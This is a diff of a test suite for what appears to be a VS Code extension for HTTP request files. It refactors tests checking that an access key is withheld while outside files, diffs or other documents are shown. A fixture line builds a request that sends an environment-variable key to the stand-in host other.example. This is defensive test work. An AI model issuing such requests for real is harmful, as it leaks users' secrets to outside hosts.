@@ -69,19 +69,19 @@ describe('references in request files', function () {
 	});
 
 	describe('while a request that is visible elsewhere would send the key to another host', () => {
-		const foreignText = () => `GET https://other.example/?key={{$processEnv ${getVariableName(tokenId)}}}\n`;
+		const foreignText = () => `GET https://other.example/?key={{$processEnv ${getVariableName(files.tokenId)}}}\n`;
 		let outside: string;
 
 		before(async () => (outside = await mkdtemp(join(tmpdir(), 'connect-tokens-outside-'))));
 		after(() => rm(outside, { recursive: true, force: true }));
 
 		async function assertWithheldWhile(show: () => Thenable<unknown>): Promise<void> {
-			await openRequestFile('own.http', requestText());
-			await waitForExposedKey(await readKey());
+			await files.open('own.http', files.requestText());
+			await files.waitForExposedKey(await files.readKey());
 			await show();
-			await waitForExposedKey(undefined);
+			await files.waitForExposedKey(undefined);
 			await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
-			await waitForExposedKey(await readKey());
+			await files.waitForExposedKey(await files.readKey());
 		}
 
 		it('expose no key next to a file outside of the workspace', async () => {
@@ -91,7 +91,7 @@ describe('references in request files', function () {
 		});
 
 		it('expose no key next to a diff', async () => {
-			const [before, after] = [join(outside, 'before.http'), join(folder, 'after.http')];
+			const [before, after] = [join(outside, 'before.http'), join(files.folder, 'after.http')];
 			await writeFile(before, '');
 			await writeFile(after, foreignText());
 			await assertWithheldWhile(() =>
@@ -102,16 +102,16 @@ describe('references in request files', function () {
 		});
 
 		it('expose no key next to a document in another language that has requests', async () => {
-			const path = join(folder, 'guide.adoc');
+			const path = join(files.folder, 'guide.adoc');
 			await writeFile(path, `[source,http]\n----\n${foreignText()}----\n`);
 			await assertWithheldWhile(() => vscode.window.showTextDocument(vscode.Uri.file(path), { viewColumn: vscode.ViewColumn.Two }));
 		});
 
 		it('expose no key to a request file that clients could read as Markdown', async () => {
-			const markdown = `${requestText()}\n\`\`\`http\n${foreignText().replace('GET ', '')}\`\`\`\n`;
-			const { document } = await openRequestFile('markdown.http', markdown);
+			const markdown = `${files.requestText()}\n\`\`\`http\n${foreignText().replace('GET ', '')}\`\`\`\n`;
+			const { document } = await files.open('markdown.http', markdown);
 			await vscode.languages.setTextDocumentLanguage(document, 'markdown');
-			await assertNotExposed();
+			await files.assertNotExposed();
 		});
 	});
 
